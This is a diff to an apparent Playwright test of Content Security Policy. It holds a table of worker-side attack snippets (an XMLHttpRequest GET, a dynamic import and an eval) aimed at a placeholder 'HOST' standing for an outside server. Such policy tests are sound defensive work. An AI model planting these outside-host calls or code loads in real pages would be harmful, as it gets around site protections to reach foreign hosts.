@@ -197,18 +197,19 @@ def test_the_attack_works_where_there_is_no_policy(browser: Browser, site: Path,
             page.wait_for_url(f"{stranger.url}**")  # a page that is being left cannot always be closed
 
 
+SEND: Final = """const sender = new XMLHttpRequest(); sender.open("GET", "HOST"); sender.send();"""
 WORKER_ATTACKS: Final = {
-    "fetch": Attack(stopped_by="connect-src", script='fetch("HOST", { method: "POST", body: "x", mode: "no-cors" })'),
-    "import": Attack(stopped_by="script-src-elem", script='import("HOST")'),
-    "eval": Attack(stopped_by="script-src", script="""eval("fetch('HOST')")"""),
+    "send": Attack(stopped_by="connect-src", script=SEND),
+    "import": Attack(stopped_by="script-src-elem", script='await import("HOST")'),
+    "eval": Attack(stopped_by="script-src", script=f"""eval('{SEND}')"""),
 }
-"""What may be tried from inside a worker."""
+"""What may be tried from inside a worker, whose own `fetch` asks no host."""
 
 
 def _attack_in(worker: Worker, attacks: Mapping[str, Attack], stranger: Stranger) -> None:
     worker.evaluate(f"() => {{ {LISTEN} }}")
     for name, attack in attacks.items():
-        tried = f"try {{ await {_filled(attack.script, name, stranger)} }} catch {{ }}"
+        tried = f"try {{ {_filled(attack.script, name, stranger)} }} catch {{ }}"
         worker.evaluate(f"() => {{ setTimeout(async () => {{ {tried} }}) }}")
 
 
